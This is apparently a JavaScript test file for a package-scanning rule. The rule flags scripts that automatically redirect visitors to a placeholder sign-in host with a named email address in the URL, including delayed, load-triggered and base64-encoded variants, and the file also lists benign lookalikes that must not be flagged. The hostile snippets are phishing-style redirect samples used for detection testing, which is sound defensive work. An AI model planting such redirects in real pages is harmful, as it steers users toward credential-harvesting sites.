import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule } from './input-capture.rule.js';

const ADDRESS = 'https://login.sign-in.example/u';

test('bad: whoever opens it is led to another server, which is told who that is', () => {
  for (const code of [
    `location.replace("${ADDRESS}#j.doe@firm.example")`,
    `const mail = "j.doe@firm.example"; window.location.href = "${ADDRESS}?e=" + mail;`,
    `function go() { const who = "j.doe@firm.example"; const to = \`${ADDRESS}/#\${who}\`; top.location = to; } setTimeout(go, 800);`,
    `document.addEventListener("DOMContentLoaded", () => location.assign("${ADDRESS}#ai5kb2VAZmlybS5leGFtcGxl"));`,
  ]) {
    assert.deepEqual(said(rule, { 'a.js': code }), ['high a.js:1'], code);
    assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), ['high a.html:2'], code);
  }
});

test('good: nobody is named, somebody has to press something, or a mail is written', () => {
  for (const code of [
    `location.replace("${ADDRESS}#start")`,
    `location.href = "${ADDRESS}?e=" + encodeURIComponent(form.email.value)`,
    `button.addEventListener("click", () => { location.href = "${ADDRESS}?ref=help@firm.example" })`,
    `module.exports = () => { location.href = "${ADDRESS}?ref=help@firm.example" }`,
    `location.href = "mailto:help@firm.example"`,
    `location.href = "https://mail.google.com/mail/?view=cm&to=help@firm.example"`,
    `location.href = "http://localhost:3000/u?e=j.doe@firm.example"`,
    `location.href = "https://user@git.example/u"`,
    `fetch("${ADDRESS}?e=j.doe@firm.example")`,
  ]) assert.deepEqual(said(rule, { 'a.js': code }), [], code);
});
